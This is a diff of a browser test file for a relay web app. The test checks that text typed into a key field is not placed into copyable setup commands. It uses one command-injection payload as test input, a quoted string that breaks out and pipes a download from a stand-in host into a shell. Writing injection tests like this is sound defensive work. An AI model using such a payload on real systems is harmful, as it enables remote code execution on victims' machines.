@@ -230,12 +230,13 @@ test('no other client can pass for the person, whatever it calls itself', async 
 
 test('only text that looks like a key is put into the commands to copy', async () => {
   await using relay = await createTestRelay()
-  await using board = await openBoard(browser, relay, { at: '#/connect' })
+  await using board = await openBoard(browser, relay, { signedOut: true })
   const { page } = board
+  await page.goto(`${relay.url}/`)
   const payload = 'abcd";curl evil|sh;"wxyz'
-  await page.getByText('YOUR_RELAY_API_KEY').first().waitFor()
+  await page.getByText('YOUR_RELAY_KEY').first().waitFor()
   await page.getByLabel('Key, to fill it in').fill(payload)
-  expect(await page.locator('pre').first().innerText()).toContain('YOUR_RELAY_API_KEY')
+  expect(await page.locator('pre').first().innerText()).toContain('YOUR_RELAY_KEY')
   expect(page.url()).not.toContain('curl')
 })
 
